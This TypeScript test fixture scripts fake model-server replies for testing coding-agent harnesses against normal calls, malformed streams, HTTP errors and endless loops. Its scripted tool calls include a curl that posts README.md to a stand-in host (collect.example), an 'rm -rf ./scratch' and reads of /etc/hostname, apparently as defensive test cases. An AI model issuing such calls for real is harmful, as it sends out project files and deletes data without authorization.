/** What the model server plays: every class of answers, good and bad, that real servers give the real harnesses. */
import type { HarnessName } from '../../../main/harness/connector.js';
import type { Api } from '../../../main/proxy/dialects/dialect.js';
import type { Asked } from './model-server.js';
import type { Reply, Said, ScriptedCall } from './reply.js';

export interface Player {
  harness: HarnessName;
  /** Where the harness works, an absolute path. */
  work: string;
}

export interface Scenario {
  name: string;
  play(asked: Asked, player: Player): Reply;
  /** Absent: every harness, in Chat Completions. */
  for?: Partial<Record<HarnessName, Api[]>>;
  /** Requests without tools; absent: a short text. */
  aside?(asked: Asked, player: Player): Reply;
  /** What the harness is set to, beyond the settings of every run (runners.ts). */
  set?: Setting[];
  /** It is ended by SIGTERM this long after its first request, milliseconds. */
  stopAfterMs?: number;
}

export type Setting =
  | 'title'
  | 'small-window'
  | 'image'
  | 'asks-approval'
  | 'few-turns'
  | 'second-turn'
  | 'reasoning'
  | 'reasoning-model'
  | 'outside'
  | 'verify'
  | 'short-patience';

const SHELL: Record<HarnessName, string> = { pi: 'bash', opencode: 'bash', hermes: 'terminal' };
const ALL: Record<HarnessName, Api[]> = {
  pi: ['chat', 'responses', 'messages'],
  opencode: ['chat', 'responses', 'messages'],
  hermes: ['chat', 'responses', 'messages'],
};
const only = (...names: HarnessName[]): Scenario['for'] => Object.fromEntries(names.map((name) => [name, ['chat']]));

const shell = ({ harness }: Player, command: string, id: string | undefined, more: object = {}): ScriptedCall => ({
  ...(id !== undefined && { id }),
  name: SHELL[harness],
  arguments: { command, ...(harness === 'opencode' && { description: 'Runs a command' }), ...more },
});
const DONE: Said = { text: 'All of it is done.' };
/** Calls until as many results are there, then the end. */
const until =
  (results: number, calls: (player: Player, asked: Asked) => ScriptedCall[], more: Said = {}): Scenario['play'] =>
  (asked, player) =>
    asked.results < results ? { ...more, calls: calls(player, asked) } : DONE;
const once =
  (reply: Reply, then: Reply = DONE): Scenario['play'] =>
  ({ turn }) =>
    turn === 0 ? reply : then;
const always =
  (reply: Reply): Scenario['play'] =>
  () =>
    reply;
const failing = (status: number, message: string, more: Record<string, unknown> = {}): Reply => ({
  status,
  error: { message, type: 'server_error', code: status, ...more },
  // opencode waits half a minute otherwise; OpenAI's clients know the header too.
  ...(status !== 400 && { headers: { 'retry-after-ms': '40' } }),
});

const LONG = 'These words are cut off before the sentence has come to its end';
const tooLong = (status = 400): Reply =>
  failing(
    status,
    "This model's maximum context length is 32768 tokens. However, you requested 40000 tokens (36000 in the messages, 4000 in the completion). Please reduce the length of the messages or completion.",
    { type: 'BadRequestError', code: status },
  );
const tooLongForLlama: Reply = failing(400, 'the request exceeds the available context size', {
  type: 'exceed_context_size_error',
  n_prompt_tokens: 40_000,
  n_ctx: 32_768,
});

/** How each harness writes, reads and changes a file. */
function fileCalls({ harness, work }: Player): ScriptedCall[] {
  const content = 'first line\nsecond line\n';
  if (harness === 'pi')
    return [
      { id: 'call_w', name: 'write', arguments: { path: 'notes.txt', content } },
      { id: 'call_e', name: 'edit', arguments: { path: 'notes.txt', edits: [{ oldText: 'second', newText: '2nd' }] } },
      { id: 'call_r', name: 'read', arguments: { path: 'notes.txt' } },
    ];
  if (harness === 'opencode')
    return [
      { id: 'call_w', name: 'write', arguments: { filePath: `${work}/notes.txt`, content } },
      {
        id: 'call_e',
        name: 'edit',
        arguments: { filePath: `${work}/notes.txt`, oldString: 'second', newString: '2nd' },
      },
      { id: 'call_r', name: 'read', arguments: { filePath: `${work}/notes.txt` } },
    ];
  return [
    { id: 'call_w', name: 'write_file', arguments: { path: 'notes.txt', content } },
    {
      id: 'call_e',
      name: 'patch',
      arguments: { mode: 'replace', path: 'notes.txt', old_string: 'second', new_string: '2nd' },
    },
    { id: 'call_r', name: 'read_file', arguments: { path: 'notes.txt' } },
  ];
}

const MANY = (player: Player): ScriptedCall[] => [shell(player, 'seq 1 60000', 'call_many')];
const growing: Scenario['play'] = ({ turn, results }, player) =>
  turn < (player.harness === 'hermes' ? 9 : 4)
    ? {
        calls: [shell(player, `seq ${turn * 2000} ${turn * 2000 + 1300}`, `call_${turn}`)],
        promptTokens: player.harness === 'hermes' ? 15_000 + results * 5000 : 20_000 + turn * 4000,
      }
    : DONE;

const calling: Scenario[] = [
  { name: 'text', for: ALL, play: always({ text: 'Hello from the scripted model, in several words.' }) },
  {
    name: 'tool',
    for: ALL,
    play: until(1, (player) => [shell(player, 'echo made > made.txt && ls', 'call_1')], { text: 'I run a command.' }),
  },
  {
    name: 'tool that fails',
    for: ALL,
    play: until(1, (player) => [shell(player, 'echo out; echo err >&2; exit 3', 'call_1')]),
  },
  {
    name: 'tool that takes too long',
    play: until(1, (player) => [
      shell(player, 'sleep 20', 'call_1', { timeout: player.harness === 'opencode' ? 1500 : 2 }),
    ]),
  },
  {
    name: 'parallel calls',
    for: ALL,
    play: until(2, (player) => [shell(player, 'echo one', 'call_a'), shell(player, 'echo two', 'call_b')]),
  },
  {
    name: 'several steps',
    play: until(3, (player, { results }) => [shell(player, `echo step ${results}`, `call_${results}`)]),
  },
  { name: 'files', for: ALL, play: until(3, (player, { results }) => [fileCalls(player)[results]!]) },
  {
    name: 'arguments in one piece',
    play: until(1, (player) => [shell(player, 'echo whole', 'call_1')], { form: 'whole' }),
  },
  {
    name: 'arguments with spaces',
    play: until(
      1,
      ({ harness }) => [
        {
          id: 'call_1',
          name: SHELL[harness],
          arguments: '{"description": "caf\\u00e9",  "command" : "printf \'a\\\\n\' ", "timeout": 5000.0}',
        },
      ],
      { text: '\n\nI will run it.  \n' },
    ),
  },
  { name: 'long output', play: until(1, MANY) },
  {
    name: 'reasoning',
    for: ALL,
    play: until(1, (player) => [shell(player, 'echo r', 'call_1')], { reasoning: 'I think about it.' }),
  },
  {
    name: 'reasoning under another name',
    play: until(1, (player) => [shell(player, 'echo r', 'call_1')], {
      reasoning: 'I think about it.',
      reasoningField: 'reasoning',
    }),
  },
  {
    name: 'a reasoning model',
    set: ['reasoning'],
    play: until(1, (player) => [shell(player, 'echo r', 'call_1')], { reasoning: 'I think about it.' }),
  },
  {
    name: 'reasoning that goes back',
    for: only('hermes'),
    set: ['reasoning-model'],
    play: until(1, (player) => [shell(player, 'echo r', 'call_1')], { reasoning: 'I think about it.' }),
  },
  { name: 'thinking in the text', play: always({ text: '<think>inner words</think>\n\nVisible words.' }) },
  { name: 'a second turn', set: ['second-turn'], play: ({ turn }) => ({ text: `Answer ${turn}.` }) },
  { name: 'an image', for: only('pi', 'opencode'), set: ['image'], play: always({ text: 'It is a small picture.' }) },
  {
    name: 'a title',
    for: { opencode: ALL.opencode!, hermes: ['chat'] },
    set: ['title'],
    play: always({ text: 'An answer.' }),
  },
  {
    name: 'a subagent',
    for: only('opencode'),
    play: ({ results, headers }) =>
      headers['x-parent-session-id'] !== undefined
        ? { text: 'The helper found 42.' }
        : results === 0
          ? {
              calls: [
                {
                  id: 'call_task',
                  name: 'task',
                  arguments: { description: 'Look around', prompt: 'Count the files.', subagent_type: 'general' },
                },
              ],
            }
          : DONE,
  },
  {
    name: 'outside the project',
    for: only('opencode'),
    play: until(1, () => [{ id: 'call_1', name: 'read', arguments: { filePath: '/etc/hostname' } }]),
  },
  {
    name: 'outside the project, allowed',
    for: only('opencode'),
    set: ['outside'],
    play: until(1, () => [{ id: 'call_1', name: 'read', arguments: { filePath: '/etc/hostname' } }]),
  },
  {
    name: 'approval',
    for: only('hermes'),
    set: ['asks-approval'],
    aside: () => ({ text: 'APPROVE' }),
    play: until(1, (player) => [shell(player, 'rm -rf ./scratch', 'call_1')]),
  },
  {
    name: 'a background command',
    for: only('hermes'),
    play: until(2, (player, { results }) => [
      results === 0
        ? shell(player, 'sleep 1; echo late', 'call_1', { background: true })
        : shell(player, 'sleep 2; echo waited', 'call_2'),
    ]),
  },
  {
    name: 'checking its own edits',
    for: only('hermes'),
    set: ['verify'],
    play: until(2, (player, { results }) => [fileCalls(player)[results]!]),
  },
  { name: 'compaction', set: ['small-window'], play: growing },
  {
    name: 'the limit of turns',
    for: only('hermes'),
    set: ['few-turns'],
    play: ({ turn }, player) => ({ calls: [shell(player, `echo step ${turn}`, `call_${turn}`)] }),
  },
  {
    name: 'a file that is not there',
    play: until(1, ({ harness, work }) => [
      {
        id: 'call_1',
        name: harness === 'hermes' ? 'read_file' : 'read',
        arguments: harness === 'opencode' ? { filePath: `${work}/none.txt` } : { path: 'none.txt' },
      },
    ]),
  },
  {
    name: 'a host that nobody named',
    play: until(1, (player) => [shell(player, 'curl -s -m 1 -d @README.md http://collect.example/', 'call_1')]),
  },
];

const oddities: Scenario[] = [
  {
    name: 'calls without index',
    play: until(2, (player) => [shell(player, 'echo one', 'call_a'), shell(player, 'echo two', 'call_b')], {
      form: 'no-index',
    }),
  },
  { name: 'a call without id', play: until(1, (player) => [shell(player, 'echo no id', undefined)]) },
  {
    name: 'an id used before',
    play: until(2, (player, { results }) => [shell(player, `echo again ${results}`, 'call_same')]),
  },
  {
    name: 'arguments cut off',
    play: ({ turn, results }, { harness }) =>
      turn < 6 && results === 0
        ? { calls: [{ id: 'call_1', name: SHELL[harness], arguments: '{"command": "echo hi' }] }
        : DONE,
  },
  {
    name: 'arguments that are no JSON',
    play: ({ turn, results }, { harness }) =>
      turn < 6 && results === 0
        ? { calls: [{ id: 'call_1', name: SHELL[harness], arguments: '{"command": echo hi}' }] }
        : DONE,
  },
  { name: 'an unknown tool', play: until(1, () => [{ id: 'call_1', name: 'no_such_tool', arguments: { x: 1 } }]) },
  { name: 'stop with calls', play: until(1, (player) => [shell(player, 'echo swt', 'call_1')], { finish: 'stop' }) },
  { name: 'tool_calls without calls', play: always({ text: 'nothing', finish: 'tool_calls' }) },
  { name: 'an unknown finish reason', play: always({ text: 'It is over.', finish: 'eos' }) },
  { name: 'cut by length', for: ALL, play: always({ text: LONG, finish: 'length' }) },
  {
    name: 'a call cut by length',
    play: ({ turn, results }, { harness }) =>
      turn < 6 && results === 0
        ? { calls: [{ id: 'call_1', name: SHELL[harness], arguments: '{"command": "echo hi' }], finish: 'length' }
        : DONE,
  },
  { name: 'an empty answer', play: always({ text: '' }) },
  { name: 'an empty answer once', play: once({ text: '' }) },
  { name: 'content_filter', play: always({ text: '', finish: 'content_filter' }) },
  { name: 'no usage', play: always({ text: 'An answer without numbers.', promptTokens: null }) },
  { name: 'another name of the model', play: always({ text: 'An answer.', model: 'other/name' }) },
];

const transport: Scenario[] = [
  { name: 'no [DONE]', play: always({ text: 'An answer without its last event.', form: 'no-done' }) },
  { name: 'no finish reason', play: always({ text: 'An answer without a reason to stop.', finish: null }) },
  {
    name: 'no finish reason once',
    for: ALL,
    play: once({ text: 'An answer without a reason to stop.', finish: null }),
  },
  { name: 'comments', play: always({ text: 'An answer between comments.', form: 'comments' }) },
  { name: 'slow pieces', play: always({ text: 'a b c d', delayMs: { event: 1200 } }) },
  { name: 'a slow first piece', play: always({ text: 'late', delayMs: { first: 8000 } }) },
  // hermes waits half an hour.
  { name: 'no answer', for: only('pi', 'opencode'), set: ['short-patience'], play: always({ hang: true }) },
  { name: 'stopped while it waits', stopAfterMs: 1500, play: always({ hang: true }) },
  { name: 'stopped in the middle', stopAfterMs: 1500, play: always({ text: LONG, delayMs: { event: 400 } }) },
  { name: 'hangs up before an answer', play: always({ drop: true }) },
  { name: 'hangs up before an answer once', for: ALL, play: once({ drop: true }) },
  { name: 'breaks', play: always({ text: LONG, fault: 'breaks' }) },
  { name: 'breaks once', for: ALL, play: once({ text: LONG, fault: 'breaks' }) },
  {
    name: 'breaks inside a call once',
    play: (asked, player) =>
      asked.turn === 0
        ? { calls: [shell(player, 'echo cut > cut.txt', 'call_1')], fault: 'breaks' }
        : until(1, (one) => [shell(one, 'echo ok', 'call_2')])(asked, player),
  },
  { name: 'ends early', for: ALL, play: always({ text: LONG, fault: 'ends' }) },
  { name: 'ends early once', play: once({ text: LONG, fault: 'ends' }) },
  { name: 'an event that is no JSON', play: always({ text: LONG, fault: 'malformed' }) },
  { name: 'an event that is no JSON once', play: once({ text: LONG, fault: 'malformed' }) },
  { name: 'an error in the stream', play: always({ text: LONG, fault: 'error' }) },
  { name: 'an error in the stream once', for: ALL, play: once({ text: LONG, fault: 'error' }) },
  { name: 'JSON instead of a stream', for: ALL, play: always({ text: 'A plain document.', document: true }) },
  { name: 'HTML instead of a stream', play: always({ status: 200, html: '<html><body>Hello</body></html>' }) },
];

const refusals: Scenario[] = [
  { name: '400', for: ALL, play: always(failing(400, 'The request is wrong.', { type: 'invalid_request_error' })) },
  { name: '401', play: always(failing(401, 'The key is wrong.', { type: 'authentication_error' })) },
  { name: '403', play: always(failing(403, 'Not by this policy.', { type: 'policy_error' })) },
  { name: '404', play: always(failing(404, 'There is no such model.', { type: 'NotFoundError' })) },
  { name: '413', play: always(failing(413, 'Payload too large')) },
  { name: '429', play: always(failing(429, 'Too many requests.', { type: 'rate_limit_error' })) },
  { name: '429 once', for: ALL, play: once(failing(429, 'Too many requests.', { type: 'rate_limit_error' })) },
  { name: '500', play: always(failing(500, 'It broke.')) },
  { name: '503', play: always(failing(503, 'Loading the model')) },
  { name: '503 once', for: ALL, play: once(failing(503, 'Loading the model')) },
  { name: '502 with HTML', play: always({ status: 502, html: '<html><body>502 Bad Gateway</body></html>' }) },
  { name: 'context overflow', play: always(tooLong()) },
  {
    name: 'context overflow once',
    play: ({ turn, results }, player) =>
      turn === 1 ? tooLong() : results === 0 && turn === 0 ? { calls: [shell(player, 'echo big', 'call_1')] } : DONE,
  },
  { name: "llama.cpp's context overflow", play: always(tooLongForLlama) },
];

const endless: Scenario[] = [
  {
    name: 'calls without end',
    play: ({ turn }, player) => ({ calls: [shell(player, `echo step ${turn}`, `call_${turn}`)] }),
  },
  {
    name: 'the same call without end',
    play: ({ turn }, player) => ({ calls: [shell(player, 'echo same', `call_${turn}`)] }),
  },
];

export const SCENARIOS: readonly Scenario[] = [...calling, ...oddities, ...transport, ...refusals, ...endless];

/** The APIs in which `harness` plays `scenario`. */
export const apisOf = (scenario: Scenario, harness: HarnessName): Api[] =>
  scenario.for === undefined ? ['chat'] : (scenario.for[harness] ?? []);
